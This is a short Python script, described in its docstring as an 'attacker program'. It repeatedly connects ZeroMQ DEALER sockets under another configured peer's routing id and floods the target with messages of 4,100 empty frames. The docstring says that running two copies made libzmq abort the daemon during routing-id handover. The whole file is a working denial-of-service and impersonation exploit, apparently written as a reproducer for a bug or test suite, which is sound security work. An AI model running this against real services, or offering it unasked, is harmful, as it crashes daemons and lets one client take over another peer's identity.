"""Attacker program: connect again and again under a configured peer's routing id.

Usage: peer_impostor.py TARGET ROUTING_ID SECONDS
Each round opens a DEALER with that routing id, sends a few messages of 4,100
empty frames and closes; two of these at once made libzmq abort the daemon
while ROUTER_HANDOVER handed the id from one connection to the other.
"""

from __future__ import annotations

import contextlib
import sys
import time

import zmq


def main() -> None:
    target, routing_id, seconds = sys.argv[1], sys.argv[2].encode(), float(sys.argv[3])
    context = zmq.Context()
    frames = [b""] * 4100
    end = time.monotonic() + seconds
    rounds = 0
    while time.monotonic() < end:
        sock = context.socket(zmq.DEALER)
        sock.setsockopt(zmq.ROUTING_ID, routing_id)
        sock.setsockopt(zmq.LINGER, 100)
        sock.connect(target)
        for _ in range(5):
            with contextlib.suppress(zmq.Again):  # queue full: the next round sends more
                sock.send_multipart(frames, flags=zmq.NOBLOCK)
        time.sleep(0.005)
        sock.close()
        rounds += 1
    context.term()
    print(rounds)


if __name__ == "__main__":
    main()
